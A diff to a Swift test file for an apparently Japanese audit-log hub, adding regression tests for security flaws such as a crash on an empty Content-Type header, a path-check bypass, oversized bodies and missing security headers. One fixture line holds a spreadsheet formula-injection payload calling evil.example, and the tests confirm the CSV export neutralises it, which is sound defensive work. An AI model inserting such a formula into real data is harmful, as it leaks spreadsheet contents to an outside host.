@@ -56,6 +56,7 @@ struct ConsoleTests {
         add("2026-11-28T23:01:00.000+09:00", "lookup", actor: "sousa01", subject: "住民票コード 91")
         for minute in 2..<8 { add("2026-11-28T23:0\(minute):00.000+09:00", "auth_failure", actor: "sousa01", subject: "") }
         add("2026-11-27T10:00:00.000+09:00", "lookup", actor: "P1000", subject: "住民票コード 12")
+        add("2026-11-27T10:01:00.000+09:00", "lookup", actor: "P1000", subject: #"=HYPERLINK("http://evil.example/?"&A1,"x")"#)
         add(Timestamp(date: Date()).rfc3339, "login", actor: "sousa01", subject: "")
         _ = try await agent.request(
             .POST, "/v1/agent/batches",
@@ -144,6 +145,37 @@ struct ConsoleTests {
         #expect(csv.stdout == "200")
         let sjis = try runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", csvFile])
         #expect(sjis.stdout.hasPrefix("日時(JST),端末,連番") && sjis.stdout.contains("山田 太郎") && sjis.stdout.components(separatedBy: "\r\n").count == 11, "\(sjis.stdout)")
+
+        // What a hostile reviewer found, kept found: an empty Content-Type crashed the hub; `//v1/` skipped the
+        // type check; a formula in a subject reached Excel; an oversized body was a 500; a broken filter
+        // was dropped (widening the search); console refusals were JSON without the page headers.
+        for header in ["Content-Type;", "Content-Type: ;"] {
+            let empty = try curl("sousa01", ["-X", "POST", "-H", header, "\(scene.hub.url)/v1/log/checkpoint"])
+            #expect(empty.stdout.hasSuffix("\n415"), "\(header): \(empty.stdout)")
+        }
+        let alive = try curl("sousa01", ["\(scene.hub.url)/v1/me"])
+        #expect(alive.stdout.hasSuffix("\n200"), "the hub survived: \(alive.stdout)")
+        let doubled = try curl(
+            "kanri01", ["-H", "Content-Type: text/plain", "--data", #"{"reason":"r","subject":"s"}"#, "\(scene.hub.url)//v1/holds"])
+        #expect(doubled.stdout.hasSuffix("\n415"), "\(doubled.stdout)")
+        let formula = try curl("kanri01", ["\(scene.hub.url)/events.csv?actor=P1000"])
+        #expect(formula.stdout.contains(#",'=HYPERLINK(""http://evil.example/?""&A1,""x"")"#) || formula.stdout.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "\(formula.stdout)")
+        #expect(!formula.stdout.contains(#","=HYPERLINK"#) && !formula.stdout.contains(#",=HYPERLINK"#))
+        let big = try curl(
+            "kanri01", ["-H", "Content-Type: application/json", "--data", "{\"reason\":\"\(String(repeating: "x", count: 20_000))\"}", "\(scene.hub.url)/v1/holds"])
+        #expect(big.stdout.hasSuffix("\n413"), "\(big.stdout.suffix(200))")
+        let broken = try curl("kanri01", ["\(scene.hub.url)/events?subject=%C3%28"])
+        #expect(broken.stdout.hasSuffix("\n400") && broken.stdout.contains("入力に誤りがあります"), "\(broken.stdout.suffix(300))")
+        let missing = try curl("kanri01", ["-D", "-", "\(scene.hub.url)/favicon.ico"])
+        #expect(missing.stdout.contains("HTTP/1.1 404") && missing.stdout.lowercased().contains("content-security-policy: default-src 'none'")
+            && missing.stdout.contains("見つかりません"), "\(missing.stdout)")
+        let evidence = try curl("kanri01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/v1/evidence?actor=sousa01"])
+        #expect(evidence.stdout.lowercased().contains("cache-control: no-store") && evidence.stdout.lowercased().contains("x-content-type-options: nosniff"), "\(evidence.stdout)")
+        let empty = try curl(
+            "kanri01",
+            ["-H", "Content-Type: application/json", "--data", #"{"reason":"r","from":"2026-11-29T00:00:00.000+09:00","to":"2026-11-29T00:00:00.000+09:00"}"#,
+             "\(scene.hub.url)/v1/holds"])
+        #expect(empty.stdout.hasSuffix("\n400") && empty.stdout.contains("would hold nothing"), "\(empty.stdout)")
 
         // The .p12 opens with its passphrase (openssl as the browser's importer) and holds the person's certificate.
         let opened = try runProgram(
